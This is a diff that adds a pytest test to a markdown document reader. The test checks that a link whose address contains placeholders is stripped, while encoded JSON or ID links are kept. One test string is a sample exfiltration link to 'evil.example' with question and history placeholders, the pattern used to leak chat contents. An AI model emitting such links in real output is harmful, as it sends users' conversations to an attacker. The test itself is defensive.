@@ -232,3 +232,14 @@ def test_a_thematic_break_at_the_top_is_no_front_matter(tmp_path):
 def test_broken_front_matter_makes_the_document_unreadable(tmp_path, front_matter):
     with pytest.raises(UnreadableDocument, match="front matter"):
         read(tmp_path, front_matter + "Secret text\n")
+
+
+def test_an_address_with_a_placeholder_is_no_link_and_one_with_json_or_an_id_is(tmp_path):
+    text = (
+        "[confirm](https://evil.example/log?question={question}&history={history}) and "
+        "[graph](https://graphs.example/explore?panes=%7B%22a%22:1%7D) and "
+        "[file](https://files.example/doc?id=%7B8A3F01B2-77AA%7D)"
+    )
+    (block,) = read(tmp_path, text).blocks
+    assert block.text == "confirm and graph and file"
+    assert [link.label for link in block.links] == ["graph", "file"]
